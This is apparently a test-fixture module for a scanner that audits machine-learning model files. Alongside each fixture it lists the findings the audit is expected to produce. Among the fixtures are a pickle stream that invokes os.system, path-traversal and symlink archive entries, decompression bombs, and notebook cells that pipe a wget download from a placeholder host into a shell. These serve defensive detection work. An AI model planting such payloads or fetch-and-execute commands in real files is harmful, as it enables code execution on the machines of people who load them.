"""Small files of each family, and what an audit must find in them.

They stand for the model files that the driver's tables lack: a registered query gives each row of a
table one of a family's files, and its SQL joins the same rows with the findings stated here. Files are
put together from bytes and are never loaded."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
from dataclasses import dataclass

Expected = list[tuple[str, str]]


@dataclass(frozen=True)
class Family:
    """``files``: bytes and the (rule, severity) pairs of their findings by the ``analyzers``."""

    path: str
    analyzers: tuple[str, ...]
    files: list[tuple[bytes, Expected]]


def _text(s: str) -> bytes:
    return b"\x8c" + bytes([len(s)]) + s.encode()


def call(module: str, attr: str) -> bytes:
    """A protocol 4 stream that imports a name and calls it with one text."""
    return b"\x80\x04" + _text(module) + _text(attr) + b"\x93" + _text("x") + b"\x85R."


def zipped(*members: tuple[str, bytes, int]) -> bytes:
    """members: name, data, external attributes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data, attributes in members:
            info = zipfile.ZipInfo(name)
            info.compress_type, info.external_attr = zipfile.ZIP_DEFLATED, attributes
            z.writestr(info, data)
    return out.getvalue()


def _damaged(data: bytes) -> bytes:
    """An archive of one stored member that fails its checksum."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("part.pkl", data)
    raw = bytearray(out.getvalue())
    raw[raw.find(data)] ^= 0xFF
    return bytes(raw)


def tarred(*members: tuple[str, bytes, int]) -> bytes:
    """members: name, data, mode."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data, mode in members:
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _without_mark(tar: bytes) -> bytes:
    """The same with a version 7 header: no mark, and its checksum."""
    head = bytearray(tar[:512])
    head[257:345] = b"\0" * 88
    head[148:156] = b" " * 8
    head[148:156] = f"{sum(head):06o}\0 ".encode()
    return bytes(head) + tar[512:]


def safetensors(header: bytes, body: int) -> bytes:
    return struct.pack("<Q", len(header)) + header + b"\0" * body


def _tensors(body: int, **spec: tuple[str, list[int], int, int]) -> bytes:
    return safetensors(json.dumps({n: {"dtype": d, "shape": s, "data_offsets": [b, e]} for n, (d, s, b, e) in spec.items()}).encode(), body)


def _cells(*cells: tuple[str, str]) -> bytes:
    return json.dumps({"cells": [{"cell_type": kind, "source": [text]} for kind, text in cells], "nbformat": 4}).encode()


def _keras(config: dict) -> bytes:
    return zipped(("config.json", json.dumps(config).encode(), 0))


_SYSTEM = call("os", "system")
_FOUND = [("FMT-001", "LOW"), ("PKL-001", "CRITICAL")]

FAMILIES = {
    "zip_archives": Family("part.zip", ("archive", "pickle"), [
        (zipped(("notes.txt", b"nothing", 0)), []),
        (zipped(("a/../../up", b"x", 0)), [("ZIP-001", "CRITICAL")]),
        (zipped(("latest", b"elsewhere", 0xA1FF << 16)), [("ZIP-002", "HIGH")]),
        (zipped(("zeros", b"\0" * 6_000_000, 0)), [("ZIP-003", "MEDIUM")]),
        (_damaged(_SYSTEM), [("ZIP-005", "LOW")]),
        (zipped(("start.sh", b"exit", 0)), [("ZIP-006", "HIGH")]),
        (zipped(("m/code/layers.py", b"y = 2", 0)), [("ZIP-006", "HIGH"), ("ZIP-007", "MEDIUM")]),
        (zipped(("m/data.pkl", _SYSTEM, 0), ("m/version", b"3", 0)), _FOUND),
        (b"PK\x03\x04 and no directory", [("ZIP-000", "MEDIUM")]),
    ]),
    "tar_archives": Family("part.tar", ("archive", "pickle"), [
        (tarred(("notes.txt", b"nothing", 0o644)), []),
        (tarred(("../up", b"x", 0o644)), [("ZIP-001", "CRITICAL")]),
        (tarred(("/etc/up", b"x", 0o755)), [("ZIP-001", "CRITICAL"), ("ZIP-006", "HIGH")]),
        (tarred(("m.pkl", _SYSTEM, 0o644)), _FOUND),
        (_without_mark(tarred(("../m.pkl", _SYSTEM, 0o644))), [("ZIP-001", "CRITICAL"), *_FOUND]),
    ]),
    "stream_rules": Family("part.joblib", ("archive", "pickle"), [
        (gzip.compress(b"only text", mtime=0), [("ENG-004", "LOW")]),
        (gzip.compress(zipped(("a", b"b", 0)), mtime=0), [("ENG-004", "MEDIUM")]),
        (gzip.compress(b"cut short" * 9, mtime=0)[:18], [("ENG-002", "MEDIUM")]),
        (b"\x28\xb5\x2f\xfd" + b"\0" * 12, [("ENG-003", "MEDIUM")]),
        (gzip.compress(b"\0" * 5_000_000, mtime=0), [("ZIP-003", "MEDIUM")]),
        (bz2.compress(_SYSTEM[:9]) + bz2.compress(_SYSTEM[9:]), _FOUND),
        (lzma.compress(_SYSTEM[:9]) + lzma.compress(_SYSTEM[9:]), _FOUND),
        (lzma.compress(tarred(("../up", b"x", 0o644))), [("ZIP-001", "CRITICAL")]),
    ]),
    "safetensors_rules": Family("part.safetensors", ("tensors",), [
        (_tensors(20, w=("F32", [2, 2], 0, 16), v=("F16", [2], 16, 20)), []),
        (struct.pack("<Q", 5000) + b"{}", [("STF-001", "HIGH")]),
        (safetensors(b"{not json", 0), [("STF-003", "HIGH")]),
        (_tensors(16, w=("F32", [1], 12, 8)), [("STF-004", "HIGH")]),
        (_tensors(4, w=("F32", [4], 0, 16)), [("STF-005", "HIGH")]),
        (_tensors(12, a=("F32", [2], 0, 8), b=("F32", [2], 4, 12)), [("STF-006", "MEDIUM")]),
        (safetensors(json.dumps({"__metadata__": {"note": "n" * 4097}}).encode(), 0), [("STF-007", "LOW")]),
        (_tensors(16, w=("BF16", [300, 4], 0, 16)), [("STF-008", "HIGH")]),
        (_tensors(4, w=("I64", [1], 0, 4), v=("BOOL", [9], 9, 2)), [("STF-008", "HIGH"), ("STF-004", "HIGH")]),
    ]),
    "source_rules": Family("layers.py", ("code",), [
        (b"class Layer:\n    size = 3\n", []),
        (b"class (:\n", [("PY-000", "MEDIUM")]),
        (b"import numpy, socket\nfrom base64 import b85encode\n", [("PY-001", "HIGH"), ("PY-001", "LOW")]),
        (b"def f(x):\n    return eval(x)\n", [("PY-002", "HIGH")]),
        (b"def f(x):\n    return getattr(x, 'popen')\n", [("PY-002", "CRITICAL")]),
        (b"def f():\n    return __import__('o' + chr(115))\n", [("PY-002", "HIGH"), ("PY-002", "HIGH")]),
        (b"STATE = {}\nSTATE['a'] = 1\nwhile False:\n    pass\n", [("PY-003", "MEDIUM")]),
        (b"if __name__ == '__main__':\n    print('x')\n", []),
        (b"LONG = '" + b"z" * 1201 + b"'\n", [("PY-004", "MEDIUM")]),
    ]),
    "config_rules": Family("sub/config.json", ("config", "templates"), [
        (b'{"hidden": 3}', []),
        (b"{no", [("CFG-000", "LOW"), ("TPL-003", "LOW")]),
        (b'{"auto_map": {"AutoModel": "m.Own"}}', [("CFG-001", "HIGH")]),
        (b'{"custom_pipelines": ["own"]}', [("CFG-002", "HIGH")]),
        (b'{"quantization_config": "see http://example.invalid/q"}', [("CFG-003", "MEDIUM")]),
        (b'{"chat_template": "{{ lipsum }}"}', [("TPL-001", "CRITICAL")]),
        (b'{"prompt_template": "{% if x %}"}', [("TPL-002", "INFO")]),
    ]),
    "keras_rules": Family("part.keras", ("keras",), [
        (_keras({"class_name": "Dense", "module": "keras.layers"}), []),
        (_keras({"layers": [{"class_name": "Lambda", "module": "keras.layers"}]}), [("KRS-001", "HIGH")]),
        (_keras({"layers": [{"registered_name": "print", "module": "builtins"}]}), [("KRS-002", "HIGH"), ("KRS-003", "HIGH")]),
        (_keras({"layers": [{"class_name": "Own", "module": "own_layers"}, {"class_name": "Two", "module": "own_layers"}]}), [("KRS-003", "HIGH")]),
    ]),
    "notebook_rules": Family("demo.ipynb", ("code",), [
        (_cells(("code", "x = 1"), ("markdown", "!ls")), []),
        (_cells(("code", "y = 2\n!ls -l")), [("NB-001", "MEDIUM")]),
        (_cells(("code", "wget -q http://example.invalid/a | bash")), [("NB-001", "HIGH")]),
        (b'{"cells": ["odd", {"cell_type": "code", "source": ["!wget http://example.invalid/x | sh"]}]}', [("NB-001", "HIGH")]),
    ]),
}
